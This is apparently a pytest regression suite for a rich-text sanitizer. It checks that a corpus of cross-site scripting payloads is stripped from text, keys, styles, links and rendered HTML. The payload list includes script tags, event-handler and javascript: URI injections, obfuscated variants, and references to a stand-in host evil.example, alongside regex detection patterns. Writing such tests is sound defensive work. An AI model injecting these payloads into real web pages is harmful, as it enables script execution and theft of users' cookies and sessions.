"""
Regression tests for the sanitizer guarantees against a corpus of hostile input.
"""

from __future__ import annotations

import re
from typing import Any

import pytest

from richtext_guard.core.allowlists import (
    ALLOWED_BLOCK_TYPES,
    ALLOWED_LIST_TYPES,
    ALLOWED_MARKS,
    ALLOWED_STYLES,
    MAX_ALT_LENGTH,
    MAX_KEY_LENGTH,
    MAX_TEXT_LENGTH,
)
from richtext_guard.core.entities import SanitizedImageBlock, SanitizedTextBlock
from richtext_guard.core.services.renderer import AssetConfig, RenderConfig, render_blocks
from richtext_guard.core.services.sanitizer import sanitize_portable_text
from richtext_guard.core.services.text_cleaner import clean_text
from richtext_guard.core.services.validator import validate_sanitized_portable_text

XSS_PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:eval('x')",
    "jajavascript:vascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>script>alert(1)<</script>/script>",
    "<body onload=alert(1)>",
    "x onmouseover = window.location='http://evil.example'",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "ononclick==alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "eval (atob('YWxlcnQoMSk='))",
    "java" * 20 + "javascript:" + "script:" * 20 + "alert(1)",
]

TAG_PATTERN = re.compile(r"<[^>]*>")
ENTITY_PATTERN = re.compile(r"&[a-zA-Z0-9#]+;")
PROTOCOL_PATTERN = re.compile(r"javascript:|data:|vbscript:", re.IGNORECASE)
HANDLER_PATTERN = re.compile(r"on\w+\s*=", re.IGNORECASE)
PRIMITIVE_PATTERN = re.compile(r"alert\s*\(|eval\s*\(|document\.|window\.", re.IGNORECASE)

KEY_PATTERN = re.compile(r"[a-zA-Z0-9-]+")


def hostile_document() -> list[Any]:
    blocks: list[Any] = []
    for i, payload in enumerate(XSS_PAYLOADS):
        blocks.append(
            {
                "_type": "block",
                "_key": f"<b{i}>{payload}",
                "style": payload,
                "listItem": payload,
                "level": payload,
                "markDefs": [{"_key": "l", "_type": "link", "href": payload}],
                "children": [
                    {
                        "_type": "span",
                        "_key": payload,
                        "text": payload * 3,
                        "marks": ["strong", payload, "l"],
                    }
                ],
            }
        )
        blocks.append(
            {
                "_type": "image",
                "_key": payload,
                "asset": {"_ref": payload},
                "alt": payload,
            }
        )
        blocks.append({"_type": payload, "_key": "x", "text": payload})
    return blocks


def assert_text_is_clean(text: str, max_length: int) -> None:
    assert not TAG_PATTERN.search(text)
    assert not ENTITY_PATTERN.search(text)
    assert not PROTOCOL_PATTERN.search(text)
    assert not HANDLER_PATTERN.search(text)
    assert not PRIMITIVE_PATTERN.search(text)
    assert len(text) <= max_length
    assert text == text.strip()


# --- Text Cleaning ---


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_dangerous_substring_survives(payload: str) -> None:
    assert_text_is_clean(clean_text(payload), MAX_TEXT_LENGTH)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaning_is_idempotent(payload: str) -> None:
    once = clean_text(payload)
    assert clean_text(once) == once


# --- Document Guarantees ---


def test_hostile_document_is_closed_under_allowlists() -> None:
    sanitized = sanitize_portable_text(hostile_document())

    assert len(sanitized) == 2 * len(XSS_PAYLOADS)
    for block in sanitized:
        assert block.type in ALLOWED_BLOCK_TYPES
        assert KEY_PATTERN.fullmatch(block.key)
        assert len(block.key) <= MAX_KEY_LENGTH
        assert "markDefs" not in block.to_dict()

        if isinstance(block, SanitizedTextBlock):
            assert block.style in ALLOWED_STYLES
            assert block.list_item is None or block.list_item in ALLOWED_LIST_TYPES
            assert block.level is None
            for span in block.children:
                assert set(span.marks) <= ALLOWED_MARKS
                assert_text_is_clean(span.text, MAX_TEXT_LENGTH)
        elif isinstance(block, SanitizedImageBlock):
            assert_text_is_clean(block.alt, MAX_ALT_LENGTH)


def test_sanitizer_output_always_validates() -> None:
    assert validate_sanitized_portable_text(sanitize_portable_text(hostile_document()))


def test_sanitizing_twice_changes_nothing() -> None:
    once = sanitize_portable_text(hostile_document())
    assert sanitize_portable_text(once) == once


def test_rendered_html_has_no_script_surface() -> None:
    config = RenderConfig(asset_config=AssetConfig(project_id="p", dataset="d"))
    html = render_blocks(sanitize_portable_text(hostile_document()), config).to_html()

    lowered = html.lower()
    for needle in ("<script", "<img", "<iframe", "<svg", "<a ", "javascript:", "onerror", "onload"):
        assert needle not in lowered
